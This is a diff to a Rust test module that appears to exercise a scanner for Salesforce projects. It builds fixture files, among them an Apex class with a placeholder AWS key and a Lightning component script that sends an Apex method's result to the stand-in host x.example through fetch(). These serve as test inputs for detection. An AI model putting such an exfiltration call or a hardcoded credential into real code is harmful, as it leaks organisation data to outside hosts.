@@ -479,7 +479,11 @@ mod tests {
             (&format!("{CLASSES}/A.cls"), session),
             (&format!("{CLASSES}/B.cls"), helper),
             (&format!("{CLASSES}/C.cls"), "public class C { String k = 'AKIAIOSFODNN7EXAMPLE'; }\n"),
-            (&format!("{CLASSES}/C.cls-meta.xml"), "<ApexClass><status>Active</status></ApexClass>\n"),
+            // Companion metadata no rule reads (a class's is read: its API version matters).
+            (
+                "force-app/main/default/triggers/T.trigger-meta.xml",
+                "<ApexTrigger><status>Active</status></ApexTrigger>\n",
+            ),
             (
                 "force-app/main/default/lwc/w/w.js",
                 "import s from '@salesforce/apex/A.s';\nexport default class W { async go() { fetch('https://x.example/?' + await s()); } }\n",
